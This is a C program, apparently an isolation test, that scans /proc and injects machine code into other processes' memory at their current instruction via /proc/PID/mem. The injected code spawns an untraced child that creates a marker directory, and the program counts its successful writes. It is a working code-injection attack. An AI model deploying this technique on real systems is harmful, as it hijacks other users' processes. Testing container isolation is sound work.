/*
 * peer: writes the memory of the other processes that it sees, over and over, as a container can that shares a pid
 * namespace and a user with another.
 *
 *   peer COUNTERS
 *
 * Looks at every process of /proc but itself. Where a thread stands still it writes
 * machine code over the next instruction: code that makes a process which nobody traces, and that process makes the
 * directory /w/made. COUNTERS is a file: u64 rounds @0, u64 writes that succeeded @8, in this machine's byte order.
 *
 * Build: cc -static, since it runs in a container without libraries.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

extern const char payload[], payload_end[];
__asm__(".pushsection .rodata\n"
	"payload:\n"
	"mov $56, %eax\n" /* clone(CLONE_UNTRACED | SIGCHLD) */
	"mov $0x800011, %edi\n"
	"xor %esi, %esi\n"
	"xor %edx, %edx\n"
	"xor %r10d, %r10d\n"
	"xor %r8d, %r8d\n"
	"syscall\n"
	"test %eax, %eax\n"
	"jnz 1f\n"
	"lea 2f(%rip), %rdi\n"
	"mov $0x1ff, %esi\n"
	"mov $83, %eax\n" /* mkdir */
	"syscall\n"
	"mov $231, %eax\n"
	"xor %edi, %edi\n"
	"syscall\n"
	"1: mov $231, %eax\n"
	"xor %edi, %edi\n"
	"syscall\n"
	"2: .asciz \"/w/made\"\n"
	"payload_end:\n"
	".popsection\n");

static volatile uint64_t *counters;

static void attack(int pid, int tid)
{
	char path[64], line[256];
	snprintf(path, sizeof(path), "/proc/%d/task/%d/syscall", pid, tid);
	int fd = open(path, O_RDONLY);
	ssize_t length = fd < 0 ? -1 : read(fd, line, sizeof(line) - 1);
	if (fd >= 0)
		close(fd);
	if (length <= 0)
		return;
	line[length] = 0;
	/* "NR ARGS SP PC", "-1 SP PC" or "running". */
	char *last = strrchr(line, ' ');
	if (last == NULL)
		return;
	unsigned long pc = strtoul(last + 1, NULL, 16);
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDWR);
	if (fd < 0)
		return;
	if (pwrite(fd, payload, payload_end - payload, pc) == payload_end - payload)
		counters[1]++;
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	int fd = open(argv[1], O_RDWR | O_CREAT, 0666);
	if (fd < 0 || ftruncate(fd, 16) != 0)
		return 3;
	counters = mmap(NULL, 16, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (counters == MAP_FAILED)
		return 4;
	for (;;) {
		DIR *processes = opendir("/proc");
		struct dirent *entry;
		while (processes != NULL && (entry = readdir(processes)) != NULL) {
			int pid = atoi(entry->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			char path[64];
			snprintf(path, sizeof(path), "/proc/%d/task", pid);
			DIR *threads = opendir(path);
			struct dirent *thread;
			while (threads != NULL && (thread = readdir(threads)) != NULL)
				if (atoi(thread->d_name) > 0)
					attack(pid, atoi(thread->d_name));
			if (threads != NULL)
				closedir(threads);
		}
		if (processes != NULL)
			closedir(processes);
		counters[0]++;
	}
}
